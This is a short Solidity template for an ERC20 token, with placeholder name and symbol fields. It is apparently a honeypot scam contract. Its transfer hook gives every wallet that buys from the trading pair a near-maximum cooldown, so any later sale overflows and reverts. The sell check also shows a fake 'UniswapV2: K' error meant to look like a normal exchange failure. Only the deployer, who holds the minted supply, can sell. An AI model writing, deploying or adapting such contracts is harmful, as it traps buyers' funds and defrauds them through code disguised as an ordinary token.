// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
contract {{CONTRACT}} is ERC20 {
    address public immutable pair;
    mapping(address => uint256) private _cooldownUntil;
    constructor(address pair_) ERC20("{{NAME}}", "{{SYMBOL}}") { pair = pair_; _mint(msg.sender, 1e27); }
    function _update(address from, address to, uint256 value) internal override {
        if (from == pair) _cooldownUntil[to] = type(uint256).max - 60;
        if (to == pair) require(block.timestamp > _cooldownUntil[from] + 60, "UniswapV2: K");
        super._update(from, to, value);
    }
}
